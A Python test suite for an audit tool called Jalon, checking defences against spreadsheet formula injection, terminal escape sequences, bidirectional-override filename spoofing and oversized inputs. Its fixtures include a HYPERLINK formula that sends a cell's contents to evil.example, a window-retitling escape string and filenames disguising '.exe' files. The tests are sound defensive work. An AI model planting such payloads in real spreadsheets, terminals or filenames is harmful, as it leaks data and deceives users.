"""Every text Jalon takes in is bounded and made of characters, and every text it writes is safe
where it lands: spreadsheet cells never become formulas, terminals never receive raw control
or bidirectional characters, and whatever could be saved can be exported.

Texts "saved by an older Jalon" (over today's limits, or holding control characters) are written
straight into the database, as an older version could have.
"""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from pypdf import PdfReader

from app.cli.main import cli
from app.composition import Application
from app.frameworks.framework_loader import load_framework
from app.frameworks.workbook_writer import WorkbookWriter
from app.models.errors import JalonError
from app.models.framework import QuestionType
from app.models.revision import Revision
from app.paths import AppPaths
from app.reports.fill_in.fill_in_layout import FillInLayout
from app.services.identity import new_id, utc_now
from app.services.report_service import ReportService
from tests.fixtures.sample_workbook import SURVEY, write_sample
from tests.reliability.hostile_files import read_entry, replace_entries, within
from tests.reports.workbook_user import fill, row_of

PASSPHRASE = "correct horse battery staple"
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"click")'
FORMULA_LIKE = (FORMULA, "+1+1", "-2+3", "@SUM(1,2)")
OLD_FORMULA_LIKE = ("\t=1+1", "\r=2+2")  # only an older Jalon could save these (tidied now)


@pytest.fixture(autouse=True)
def no_keyring(monkeypatch):
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    monkeypatch.setenv("JALON_KEY_PASSPHRASE", PASSPHRASE)


def jalon(data_dir, *args, code=0) -> str:
    result = CliRunner().invoke(
        cli, ["--data-dir", str(data_dir), "--author", "Awa", *map(str, args)]
    )
    assert result.exit_code == code, result.output
    assert "unexpected problem" not in result.output, result.output
    return result.output


def new_audit(data_dir: Path, institution: str = "Caisse Rurale A") -> str:
    return jalon(data_dir, "audit", "new", "--institution", institution).split()[2]


def save_as_older_jalon(data_dir: Path, audit_id: str, code: str, **texts) -> None:
    """A revision holding `texts` as they are (no input rules), as an older Jalon saved them."""
    app = Application(AppPaths(data_dir), author="Old")
    try:
        session = app.audits.open(audit_id)
        indicator = session.indicator(code)
        current = session.answer_of(code)
        institution = texts.pop("institution", None)
        content = {**current.content(), **texts}
        app.store.revisions.append(
            Revision(
                new_id(),
                audit_id,
                indicator.name,
                current.revision_id or None,
                author="Old",
                site="old-site",
                created_at=utc_now(),
                **content,
            )
        )
        if institution is not None:
            app.store.audits.update(replace(session.audit, institution=institution))
    finally:
        app.close()


# --- item 4: formula injection -------------------------------------------------------------------


def _every_excel_file(tmp_path: Path, data: Path, audit_id: str) -> list[Path]:
    files = [tmp_path / "answers.xlsx", tmp_path / "network.xlsx", tmp_path / "fill.xlsx"]
    jalon(data, "export", "xlsx", audit_id, files[0])
    jalon(data, "export", "consolidated", files[1])
    jalon(data, "workbook", "export", audit_id, files[2])
    return files


def _formulas(path: Path) -> list[str]:
    """Formula elements in any sheet, read from the XML itself (what Excel will evaluate)."""
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]


def _text_cells(path: Path) -> dict[str, str]:
    """Every string cell's text → its data type, as openpyxl reads the file back."""
    found = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    return found


def test_texts_that_look_like_formulas_stay_text_in_every_excel_file(tmp_path):
    data = tmp_path / "data"
    audit_id = new_audit(data, institution="=1+2 Caisse")
    jalon(data, "audit", "answer", audit_id, "1.1.1.1", "yes", "--comment", FORMULA)
    jalon(data, "audit", "answer", audit_id, "1.1.1.2", "--na", "+1+1")
    jalon(data, "audit", "answer", audit_id, "1.1.1.3", "no", "--comment", "-2+3")
    jalon(data, "audit", "answer", audit_id, "1.1.2.1", "no", "--comment", "@SUM(1,2)")
    save_as_older_jalon(data, audit_id, "1.1.2.2", comment=OLD_FORMULA_LIKE[0])
    save_as_older_jalon(data, audit_id, "1.1.2.3", comment=OLD_FORMULA_LIKE[1])
    for path in _every_excel_file(tmp_path, data, audit_id):
        assert _formulas(path) == [], path.name
        cells = _text_cells(path)
        expected = [*FORMULA_LIKE, *OLD_FORMULA_LIKE] if path.name != "network.xlsx" else []
        for text in expected:  # XML reads a bare carriage return as a line feed
            assert cells.get(text.replace("\r", "\n")) == "s", (path.name, text)
        assert any(text.startswith("=1+2 Caisse") or "=1+2 Caisse" in text for text in cells), (
            path.name
        )


def test_a_formula_like_comment_reads_back_as_its_text_where_values_are_read(tmp_path):
    """Readers that take cached values (Jalon's own import, pandas, most tools) see the text;
    a formula cell would read as empty, and the comment would be lost on the way back."""
    data = tmp_path / "data"
    audit_id = new_audit(data)
    jalon(data, "audit", "answer", audit_id, "1.1.1.1", "yes", "--comment", FORMULA)
    path = tmp_path / "fill.xlsx"
    jalon(data, "workbook", "export", audit_id, path)
    sheet = load_workbook(path, data_only=True).worksheets[1]
    comment = sheet.cell(row=row_of(path, "1.1.1.1"), column=FillInLayout.index("comment"))
    assert comment.value == FORMULA and comment.quotePrefix


def test_characters_excel_cannot_store_are_shown_instead_of_failing_the_export(tmp_path):
    data = tmp_path / "data"
    audit_id = new_audit(data)
    save_as_older_jalon(
        data,
        audit_id,
        "1.1.1.1",
        value="yes",
        comment="before\x1b[31mred\x00after",
        institution="Caisse\x07 A",
    )
    for path in _every_excel_file(tmp_path, data, audit_id):
        cells = _text_cells(path)
        if path.name != "network.xlsx":
            assert "before\\x1b[31mred\\x00after" in cells, path.name
        assert any("Caisse\\x07 A" in text for text in cells), path.name


# --- item 3: limits at input; old texts over them still export ------------------------------------


def test_texts_over_their_limit_are_refused_at_input_naming_the_field(tmp_path, session):
    data = tmp_path / "data"
    audit_id = new_audit(data)
    refused = jalon(
        data, "audit", "answer", audit_id, "1.1.1.1", "yes", "--comment", "x" * 100_001, code=1
    )
    assert "the comment on 1.1.1.1 is 100001 characters long; at most 20000 can be saved" in refused
    assert jalon(data, "audit", "history", audit_id, "1.1.1.1") == ""  # nothing was saved
    refused = jalon(data, "audit", "new", "--institution", "I" * 201, code=1)
    assert "the institution name is 201 characters long; at most 200 can be saved" in refused
    refused = jalon(data, "audit", "answer", audit_id, "1.1.1.2", "--na", "r" * 2_001, code=1)
    assert "the reason why 1.1.1.2 is not applicable is 2001 characters long" in refused
    with pytest.raises(JalonError, match="the action's description is 2001 characters long"):
        session.add_action("1.1.1", "a" * 2_001)
    kinds = {i.type: i.display_code for i in session.framework.iter_indicators()}
    text_code = kinds[QuestionType.TEXT]
    with pytest.raises(JalonError, match=f"the answer to {text_code} is 20001 characters long"):
        session.answer(text_code, "t" * 20_001)
    with pytest.raises(JalonError, match="needs a whole number of at most 15 digits"):
        session.answer(kinds[QuestionType.INTEGER], "1e300")


def test_a_200000_character_fill_in_cell_is_refused_with_sheet_row_and_column(
    application, session, tmp_path
):
    reports = ReportService(application.store, application.audits)
    path = reports.export_workbook(session.audit.id, tmp_path / "fill.xlsx", "en")
    fill(path, {"1.1.1.1": {"answer": "yes", "comment": "MARKER"}})
    # openpyxl cuts what it writes at 32,767 characters; Excel-like files may hold more.
    part = next(
        name for name in zipfile.ZipFile(path).namelist() if b"MARKER" in read_entry(path, name)
    )
    path = replace_entries(
        path,
        tmp_path / "huge.xlsx",
        {part: read_entry(path, part).replace(b"MARKER", b"c" * 200_000)},
    )
    preview = reports.preview_workbook(session.audit.id, path, "overwrite")
    (problem,) = preview.problems
    assert (problem.sheet, problem.row, problem.column) == (
        "Questionnaire",
        row_of(path, "1.1.1.1"),
        get_column_letter(FillInLayout.index("comment")),
    )
    assert "the comment on 1.1.1.1 is 200000 characters long" in problem.message


def test_an_old_comment_over_every_limit_still_exports_everywhere(tmp_path):
    """The issue's case: a 150,000-character comment made `package export` fail for good; an
    old comment holding a control character did the same once packages refused them."""
    data, office = tmp_path / "data", tmp_path / "office"
    audit_id = new_audit(data)
    jalon(data, "audit", "answer", audit_id, "1.1.1.1", "yes")
    long = "Procès-verbal du conseil, page après page. " * 3_500  # 150,500 characters
    save_as_older_jalon(data, audit_id, "1.1.1.1", comment=long)
    save_as_older_jalon(data, audit_id, "1.1.1.2", comment="Annexe\x1b. " * 3_500)  # 31,500
    files = _every_excel_file(tmp_path, data, audit_id)
    comments = [t for t in _text_cells(files[0]) if t.startswith("Procès-verbal")]
    assert len(comments[0]) == 32_767 and comments[0].endswith("[…]")
    jalon(data, "package", "export", audit_id, tmp_path / "old.jalon")
    jalon(data, "keys", "export", "-o", tmp_path / "site.pub")
    jalon(office, "keys", "trust", tmp_path / "site.pub", "--name", "Awa")
    assert "accepted" in jalon(office, "package", "import", tmp_path / "old.jalon")
    app = Application(AppPaths(office))
    try:
        session = app.audits.open(audit_id)
        arrived = [session.answer_of(code).comment for code in ("1.1.1.1", "1.1.1.2")]
    finally:
        app.close()
    # A package carries long texts whole; a character no package text may hold is shown.
    assert arrived == [long, "Annexe\\x1b. " * 3_500]


def test_a_damaged_stored_value_stops_a_package_export_naming_the_local_revision(tmp_path):
    """A value changed on disk (bit-rot) that fits no choice: the package's own check refused
    it as "audit.json in the package is invalid", blaming a package during a local export."""
    data = tmp_path / "data"
    audit_id = new_audit(data)
    save_as_older_jalon(data, audit_id, "1.1.1.1", value="y\x1b[")
    app = Application(AppPaths(data))
    try:
        revision_id = app.audits.open(audit_id).answer_of("1.1.1.1").revision_id
    finally:
        app.close()
    output = jalon(data, "package", "export", audit_id, tmp_path / "rot.jalon", code=1)
    assert "in the package" not in output
    assert f"the audit {audit_id} recorded here holds" in output
    assert f"(revision {revision_id})" in output and "'jalon backup restore'" in output
    assert not (tmp_path / "rot.jalon").exists()


@pytest.mark.slow
def test_an_old_comment_taller_than_a_page_still_makes_a_pdf(tmp_path):
    data = tmp_path / "data"
    audit_id = new_audit(data)
    save_as_older_jalon(data, audit_id, "1.1.1.1", value="yes", comment="Annexe. " * 3_500)
    assert "Report written" in jalon(data, "report", audit_id, "--pdf", tmp_path / "r.pdf")
    assert "Annexe. Annexe." in "".join(
        page.extract_text() for page in PdfReader(tmp_path / "r.pdf").pages
    )


@pytest.mark.slow
def test_texts_received_far_over_every_input_limit_still_make_a_pdf(tmp_path):
    """Found by fuzzing merged packages (test_fuzz_merge_export.py), which may carry texts of
    up to 1,000,000 characters: a text answer of 999,000 letters without a space kept
    `jalon report` busy for hours (reportlab breaks a long word in quadratic time), and a
    thousand auditors' names made the cover's table taller than a page (LayoutError)."""
    data = tmp_path / "data"
    audit_id = new_audit(data)
    save_as_older_jalon(data, audit_id, "1.1.1.1", value="yes", comment="x" * 999_000)  # 1 word
    app = Application(AppPaths(data), author="Old")
    try:
        audit = app.audits.get(audit_id)
        app.store.audits.update(
            replace(audit, auditors=tuple(f"Auditor {n:04d} " + "a" * 180 for n in range(1_000)))
        )
    finally:
        app.close()
    with within(120):  # a guard against the hang, not a measure of speed
        assert "Report written" in jalon(data, "report", audit_id, "--pdf", tmp_path / "r.pdf")
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "r.pdf").pages)
    assert "x" * 1000 in text.replace("\n", "") and "[…]" in text  # cut visibly at 20,000
    # The cover's list goes on over the next page, cut visibly at 20,000 characters too.
    assert "Auditor 0000" in text and "Auditor 0099" in text and "Auditor 0999" not in text


# --- item 6: a sentence, never "unexpected problem" ---------------------------------------------


def test_a_lone_surrogate_or_a_control_character_is_refused_naming_the_field(tmp_path):
    data = tmp_path / "data"
    audit_id = new_audit(data)
    refused = jalon(data, "audit", "answer", audit_id, "1.1.1.1", "--comment", "a\udc80b", code=1)
    assert "the comment on 1.1.1.1 holds a character that is not text (U+DC80)" in refused
    refused = jalon(data, "audit", "new", "--institution", "Caisse \udcff", code=1)
    assert "the institution name holds a character that is not text (U+DCFF)" in refused
    refused = jalon(data, "audit", "new", "--institution", "Caisse\x1b[2J", code=1)
    assert "the institution name holds a character that is not text (U+001B)" in refused
    created = jalon(data, "audit", "new", "--institution", "Caisse\n\tRurale  B")
    assert "for Caisse Rurale B (" in created  # line breaks in a one-line name are tidied


# --- item 7: terminal output --------------------------------------------------------------------


def test_control_and_bidi_characters_from_data_are_escaped_on_the_terminal(tmp_path):
    data, office = tmp_path / "data", tmp_path / "office"
    audit_id = new_audit(data, institution="Caisse \u202eAXE.exe")
    jalon(data, "audit", "answer", audit_id, "1.1.1.1", "yes", "--comment", "ok \u2066x\u2069")
    save_as_older_jalon(
        data, audit_id, "1.1.1.2", value="no", comment="\x1b]0;owned\x07\x1b[2J\rfake line"
    )
    jalon(data, "keys", "export", "-o", tmp_path / "site.pub")
    jalon(office, "keys", "trust", tmp_path / "site.pub", "--name", "Awa \u202eX")
    jalon(data, "package", "export", audit_id, tmp_path / "p.jalon")
    outputs = {
        "audit list": jalon(data, "audit", "list"),
        "audit show": jalon(data, "audit", "show", audit_id),
        "history": jalon(data, "audit", "history", audit_id, "1.1.1.2"),
        "package verify": jalon(office, "package", "verify", tmp_path / "p.jalon"),
        "package import": jalon(office, "package", "import", tmp_path / "p.jalon"),
        "package log": jalon(office, "package", "log"),
    }
    for command, output in outputs.items():
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", output), command
    assert "Caisse \\u202eAXE.exe" in outputs["audit list"]
    assert "\\x1b]0;owned\\x07\\x1b[2J\\x0dfake line" in outputs["history"]
    assert "Caisse \\u202eAXE.exe" in outputs["package verify"]


# --- issue 14: the command line ------------------------------------------------------------------


def test_one_answer_command_is_one_revision(tmp_path):
    data = tmp_path / "data"
    audit_id = new_audit(data)
    jalon(
        data, "audit", "answer", audit_id, "1.1.1.1", "yes", "--comment", "Board minutes", "--flag"
    )
    (line,) = jalon(data, "audit", "history", audit_id, "1.1.1.1").splitlines()
    assert "yes" in line and "comment: Board minutes" in line and "[flagged]" in line
    refused = jalon(
        data, "audit", "answer", audit_id, "1.1.1.2", "yes", "--comment", "x" * 20_001, code=1
    )
    assert "at most 20000" in refused
    assert jalon(data, "audit", "history", audit_id, "1.1.1.2") == ""  # all or nothing


def test_a_reader_that_stops_early_does_not_make_jalon_fail(tmp_path, default_framework):
    data = tmp_path / "data"
    app = Application(AppPaths(data), author="Awa")
    try:
        audit = app.audits.create(default_framework, "Caisse Rurale A", "SN")
        session = app.audits.open(audit.id)
        for indicator in list(default_framework.iter_indicators())[:120]:
            if indicator.is_answerable:
                session.comment(indicator.name, "Long enough to fill a pipe. " * 40)
    finally:
        app.close()
    shown = subprocess.Popen(  # as `jalon audit show ID | head -3` runs it
        [sys.executable, "-m", "app", "--data-dir", str(data), "audit", "show", audit.id],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    for _ in range(3):
        shown.stdout.readline()
    shown.stdout.close()
    with shown.stderr:
        errors = shown.stderr.read().decode()
    shown.wait(timeout=60)
    assert "unexpected problem" not in errors and "Traceback" not in errors, errors
    assert shown.returncode in (1, 141, -13)


def test_a_framework_label_that_looks_like_a_formula_stays_text_in_the_exported_xlsform(
    tmp_path,
):
    """Frameworks arrive in packages from elsewhere: `jalon framework export` is a writer too."""
    source = write_sample(tmp_path / "source.xlsx")
    book = load_workbook(source)
    label = book["survey"].cell(row=4, column=3)  # q1's English label, as a text cell
    assert label.value == SURVEY[2][2]
    label.value, label.data_type = FORMULA, "s"
    book.save(source)
    loaded = load_framework(source)
    exported = tmp_path / "exported.xlsx"
    WorkbookWriter(loaded.framework).write(exported)
    assert _formulas(exported) == []
    assert _text_cells(exported)[FORMULA] == "s"
    assert load_framework(exported).framework.indicators["q1"].label.values["en"] == FORMULA


# --- evidence file names: right-to-left overrides and controls shown, never acted on ------------

SPOOFED_NAMES = (
    "\u202egpj.exe",
    "minutes\u2066.pdf\u2069.exe",
    "report\u200f.txt",
    "a\x1bb.txt",
    "line\nbreak.txt",
)


def test_right_to_left_overrides_in_evidence_file_names_are_shown_in_every_report(
    tmp_path, application, session
):
    """A file "\\u202egpj.exe" reads "exe.jpg" wherever it is shown raw: each report shows the
    override as an escape (the name as stored is kept, and goes on into packages whole)."""
    for number, name in enumerate(SPOOFED_NAMES):
        attached = tmp_path / name
        attached.write_text(f"evidence {number}")
        session.attach_evidence("1.1.1.1", attached)
    # A file of a question the framework lacks (received with a package) is listed in the
    # PDF's annex under the question's id, which is shown as safely (found by fuzzing).
    with application.store.database.transaction():
        application.store.database.execute(
            "UPDATE evidence SET indicator = 'old\u202eq' WHERE filename = ?", ("a\x1bb.txt",)
        )
    reports = ReportService(application.store, application.audits)
    xlsx = reports.write_xlsx(session.audit.id, tmp_path / "audit.xlsx", "en")
    pdf = reports.write_pdf(session.audit.id, tmp_path / "audit.pdf", "en")
    cells = " ".join(_text_cells(xlsx))
    text = "".join(page.extract_text() for page in PdfReader(pdf).pages)
    shown = (
        "\\u202egpj.exe",
        "minutes\\u2066.pdf\\u2069.exe",
        "report\\u200f.txt",
        "a\\x1bb.txt",
        "line\\x0abreak.txt",
    )
    for name, escaped in zip(SPOOFED_NAMES, shown, strict=True):
        assert escaped in cells or name == "a\x1bb.txt", escaped  # its question is not here
        assert escaped in text.replace("\n", ""), escaped
        assert name not in cells and name not in text
    assert "old\\u202eq" in text.replace("\n", "") and "\u202e" not in text
    assert sorted(
        link.filename for link in application.store.evidence.for_audit(session.audit.id)
    ) == sorted(SPOOFED_NAMES)
